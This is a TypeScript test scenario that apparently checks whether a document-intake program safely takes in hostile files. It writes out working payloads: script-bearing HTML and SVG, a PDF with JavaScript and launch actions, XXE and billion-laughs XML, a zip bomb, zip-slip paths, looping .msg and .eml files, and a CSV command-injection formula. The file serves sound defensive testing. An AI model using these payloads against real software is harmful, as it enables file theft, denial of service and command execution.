import { createServer } from 'node:net';
import type { AddressInfo, Server } from 'node:net';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { cpSync, mkdirSync } from 'node:fs';
import type { Intag } from '../../shared/contract/post.ts';
import { makeEml } from '../support/files/mail.ts';
import { makeMsg } from '../support/files/msg.ts';
import { makeWord } from '../support/files/word.ts';
import { makeZip } from '../support/files/zip.ts';
import { startProgram } from './program.ts';
import type { Program } from './program.ts';
import { sized } from './scenario.ts';
import type { Bench, Row, Scenario } from './scenario.ts';

const SECRET = 'HEMLIG-KANARIEFAGEL-7431';
/** A busy machine may take long; the reader's own limit is far below. */
const HONEST_MS = 5000;

/** A file that wants something, and what must come of it. */
interface Trap {
  readonly name: string;
  readonly wants: string;
  readonly bytes: Uint8Array;
}

/** Files that run, fetch, swell, climb or go in circles are taken in as any others. */
export const hostileFiles: Scenario = {
  name: 'hostile files',
  part: 'angrepp',
  async run(bench) {
    mkdirSync(bench.folder, { recursive: true });
    const outside = join(bench.folder, 'utanfor.txt');
    writeFileSync(outside, SECRET);
    const listener = await listen();
    const program = await startProgram(bench.bundle, join(bench.folder, 'program'));
    try {
      const register = join(bench.folder, 'register');
      cpSync(bench.ground, register, { recursive: true });
      await program.open(register);
      const rows: Row[] = [];
      for (const trap of traps(outside, listener.port())) {
        rows.push(await spring(bench, program, trap, listener));
      }
      return rows;
    } finally {
      await program.close();
      listener.close();
    }
  },
};

async function spring(
  bench: Bench,
  program: Program,
  trap: Trap,
  listener: Listener,
): Promise<Row> {
  const times = sized(bench, { smak: 1, kort: 1, lang: 5 });
  const faults: string[] = [];
  let became = '';
  for (let time = 0; time < times; time += 1) {
    const path = join(bench.folder, trap.name);
    // Not the same bytes twice, or the store would know them.
    writeFileSync(path, Buffer.concat([trap.bytes, Buffer.from(' '.repeat(time))]));
    const told = await takeIn(program, path, faults);
    became = told.became;
    faults.push(...(await leaks(program, told.sha256)));
  }
  if (listener.visits() > 0) faults.push('something outside was asked');
  for (const name of ['slank.txt', '../slank.txt', '../../slank.txt']) {
    if (existsSync(join(bench.folder, 'register', name))) faults.push(`${name} was written`);
  }
  return {
    ...{ fault: trap.wants, done: `${trap.name} is taken in, read and shown`, times },
    ...{
      seen: became,
      outcome: 'kept as it came; nothing ran, was fetched or read beside it',
      faults,
    },
  };
}

async function takeIn(program: Program, path: string, faults: string[]) {
  program.host.answerFiles([path]);
  const chosen = await program.call('post.chooseFiles', {});
  const files = chosen.map(({ handle }) => handle);
  const { jobId } = await program.call('post.takeIn', { files, arendeId: null, kalla: 'fil' });
  const job = program.endOfJob(jobId);
  const start = performance.now();
  await program.call('post.getCounts', {});
  if (performance.now() - start > HONEST_MS) faults.push('an honest call had to wait');
  const [taken] = (await job) as Intag;
  if (!taken?.ok) throw new Error('it was not taken in');
  for (;;) {
    const { filer } = await program.call('post.get', { postId: taken.postId });
    if (filer.every(({ textStatus }) => textStatus !== 'vantar')) {
      const states = filer.map(({ textStatus }) => WORDS[textStatus] ?? textStatus);
      return { sha256: filer[0]?.sha256 ?? '', became: [...new Set(states)].join(', ') };
    }
    await pause(20);
  }
}

const WORDS: Readonly<Record<string, string>> = {
  klar: 'its text can be searched',
  tom: 'it has no text',
  olasbar: '”kan inte läsas” beside the file',
};

/** What the page gets of the file must hold nothing from beside it, and be nothing that can act. */
async function leaks(program: Program, sha256: string): Promise<string[]> {
  const answer = await program.fetch(new Request(`app://paragraf/filer/${sha256}`));
  const type = answer.headers.get('content-type') ?? '';
  const body = await answer.text();
  const read = JSON.stringify(await program.raw('fil.getText', JSON.stringify({ sha256 })));
  const faults = /html|svg|xml|script/iu.test(type) ? [`shown as ${type}`] : [];
  return [...faults, ...([body, read].some((text) => text.includes(SECRET)) ? ['it leaked'] : [])];
}

interface Listener {
  port(): number;
  visits(): number;
  close(): void;
}

async function listen(): Promise<Listener> {
  let visits = 0;
  const server: Server = createServer((socket) => {
    visits += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = () => (server.address() as AddressInfo).port;
  return { port, visits: () => visits, close: () => server.close() };
}

function traps(outside: string, port: number): Trap[] {
  const web = `http://127.0.0.1:${port}/spar`;
  const text = (name: string, wants: string, content: string): Trap => ({
    ...{ name, wants, bytes: Buffer.from(content) },
  });
  return [
    text(
      'sida.html',
      'HTML that runs and fetches',
      `<!doctype html><script src="${web}"></script>
      <img src="${web}" onerror="fetch('${web}')"><iframe src="file://${outside}"></iframe><p>Hej`,
    ),
    text(
      'bild.svg',
      'SVG with script',
      `<svg xmlns="http://www.w3.org/2000/svg"
      xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('${web}')"><script>1</script>
      <image xlink:href="file://${outside}"/><use href="${web}#a"/></svg>`,
    ),
    text('lank.pdf', 'PDF with JavaScript and launch actions', pdfWithActions(web, outside)),
    { name: 'yttre.docx', wants: 'Word with outer relations', bytes: outerWord(web, outside) },
    { name: 'xxe.docx', wants: 'XML that names a file', bytes: wordOf(entityXml(outside)) },
    { name: 'skratt.docx', wants: 'XML of a billion laughs', bytes: wordOf(laughingXml()) },
    { name: 'bomb.docx', wants: 'A file that swells', bytes: swelling() },
    { name: 'slank.docx', wants: 'A zip with paths that climb', bytes: climbing() },
    { name: 'ring.msg', wants: 'A message of Outlook that goes in circles', bytes: circular() },
    { name: 'ask.eml', wants: 'An e-mail in an e-mail, without end', bytes: nested() },
    text('formel.csv', 'A table with formulas', `namn;belopp\n=cmd|'/c calc'!A1;@SUM(1)\n`),
  ];
}

function pdfWithActions(web: string, outside: string): string {
  return `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL("${web}"))>>
/AA<</WC<</S/Launch/F(${outside})>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.submitForm("${web}"))>>]>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(${web})>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/GoToR/F(${outside})>>>>]>>endobj
trailer<</Root 1 0 R>>
%%EOF`;
}

function outerWord(web: string, outside: string): Buffer {
  const outer = (id: string, type: string, target: string) =>
    `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
  const content = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${outer('rId90', 'attachedTemplate', web)}${outer('rId91', 'image', `file://${outside}`)}${outer('rId92', 'oleObject', web)}</Relationships>`;
  return makeWord(['Text med bild'], [{ name: 'word/_rels/settings.xml.rels', content }]);
}

const TYPES = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const RELS = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;

function wordOf(document: string): Buffer {
  return makeZip([
    { name: '[Content_Types].xml', content: TYPES },
    { name: '_rels/.rels', content: RELS },
    { name: 'word/document.xml', content: document },
  ]);
}

const documentXml = (entities: string, name: string) =>
  `<?xml version="1.0"?><!DOCTYPE d [${entities}]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&${name};</w:t></w:r></w:p></w:body></w:document>`;

function entityXml(outside: string): string {
  return documentXml(`<!ENTITY e SYSTEM "file://${outside}">`, 'e');
}

function laughingXml(): string {
  const levels = Array.from({ length: 30 }, (_, level) =>
    level === 0 ? '<!ENTITY l0 "ha">' : `<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`,
  );
  return documentXml(levels.join(''), 'l29');
}

function swelling(): Buffer {
  return makeWord(['x'], [{ name: 'word/media/a.bin', content: Buffer.alloc(64 * 1024 ** 2) }]);
}

function climbing(): Buffer {
  const names = ['../slank.txt', '../../slank.txt', '/slank.txt', '..\\..\\slank.txt'];
  return makeWord(
    ['x'],
    names.map((name) => ({ name, content: 'ute' })),
  );
}

/** Every chain of sectors leads back to itself. */
function circular(): Buffer {
  const bytes = makeMsg({
    ...{ subject: 'Ring', senderName: 'A', senderAddress: 'a@exempel.invalid', body: 'x' },
    ...{ sent: new Date(0), attachment: { name: 'a.txt', content: Buffer.alloc(9000, 1) } },
  });
  const table = (bytes.readUInt32LE(76) + 1) * 512;
  for (let entry = 0; entry < 128; entry += 1) bytes.writeUInt32LE(entry, table + entry * 4);
  return bytes;
}

function nested(): Buffer {
  let inner = makeEml({ subject: 'innerst' });
  for (let level = 0; level < 40; level += 1) {
    const attachments = [{ name: `${level}.eml`, content: inner, type: 'message/rfc822' }];
    inner = makeEml({ subject: `brev ${level}`, attachments });
  }
  return Buffer.from(inner);
}
